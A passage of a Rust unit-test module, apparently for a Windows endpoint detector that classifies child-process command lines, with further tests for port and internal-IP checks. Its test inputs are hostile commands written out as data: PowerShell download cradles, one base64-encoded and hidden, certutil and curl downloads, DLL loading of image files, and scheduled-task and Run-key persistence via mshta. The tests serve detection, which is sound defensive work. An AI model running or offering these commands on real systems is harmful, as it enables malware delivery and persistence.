    }

    #[test]
    fn what_children_do() {
        let d = |img: &str, cmd: &str| child_does(img, cmd);
        assert!(
            d("powershell.exe", "powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('https://x/a')")
                .downloads
        );
        // `IEX (New-Object Net.WebClient).DownloadString('http://x/a')`, UTF-16LE base64.
        let enc = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAvAGEAJwApAA==";
        let p = d("powershell.exe", &format!("powershell.exe -w hidden -enc {enc}"));
        assert!(p.downloads && p.runs_code);
        assert!(d("C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -f http://x/a.exe a.exe").downloads);
        assert!(d("curl.exe", "curl -o a.exe https://x/a").downloads);
        assert!(!d("curl.exe", "curl --version").downloads);
        // A local script outside user-writable folders is an admin's.
        let admin = d("cmd.exe", r#"cmd.exe /c "C:\Tools\setup.bat""#);
        assert_eq!(admin, ChildDoes::default());
        assert!(!d("powershell.exe", r"powershell.exe -ExecutionPolicy Bypass -File C:\Tools\setup.ps1").runs_code);
        assert!(d("powershell.exe", r"powershell.exe -File C:\Users\Public\x.ps1").runs_code);
        assert!(d("powershell.exe", "powershell -noexit -command Get-Service sysmon").runs_code);
        assert!(d("cmd.exe", r"cmd /c %APPDATA%\x.exe").runs_code);
        assert!(d("msbuild.exe", r"msbuild.exe C:\x\a.csproj").runs_code);
        assert!(!d("rundll32.exe", "rundll32.exe printui.dll,PrintUIEntry /il").runs_code);
        let jpg = d("rundll32.exe", r"rundll32.exe C:\Users\Public\photo.jpg,DllRegisterServer");
        assert_eq!(jpg.non_library.as_deref(), Some(r"C:\Users\Public\photo.jpg"));
        assert!(jpg.runs_code);
        assert_eq!(
            d("regsvr32.exe", r"regsvr32 /s C:\ProgramData\a.png").non_library.as_deref(),
            Some(r"C:\ProgramData\a.png")
        );
        assert_eq!(d("rundll32.exe", "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"").non_library, None);
        assert_eq!(d("rundll32.exe", "rundll32 shell32.dll,Control_RunDLL desk.cpl").non_library, None);
        let task = d("schtasks.exe", r#"schtasks /create /tn Update /sc minute /tr "mshta.exe https://x/a.hta""#);
        assert_eq!((task.persists, task.relaunches_mshta), (Some("scheduled task"), true));
        let run =
            d("reg.exe", r#"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d "mshta vbscript:x" /f"#);
        assert_eq!((run.persists, run.relaunches_mshta), (Some("Run key"), true));
        assert_eq!(d("reg.exe", r"reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run").persists, None);
        assert_eq!(d("schtasks.exe", "schtasks /query").persists, None);
    }

    #[test]
    fn ports() {
        assert!(is_web_port(443) && !is_web_port(8080));
        assert!(is_directory_port(389) && !is_directory_port(4443));
    }

    #[test]
    fn internal_addresses() {
        for ip in [
            "10.1.2.3",
            "192.168.2.5",
            "172.20.0.1",
            "127.0.0.1",
            "100.64.0.1",
            "::1",
            "fe80::1",
            "::ffff:10.0.0.1",
            "0:0:0:0:0:0:0:1",
        ] {
            assert!(is_internal_ip(ip), "{ip}");
        }
        for ip in ["151.101.248.133", "8.8.8.8", "172.32.0.1", "2606:4700::1111"] {
            assert!(!is_internal_ip(ip), "{ip}");
        }
    }
}
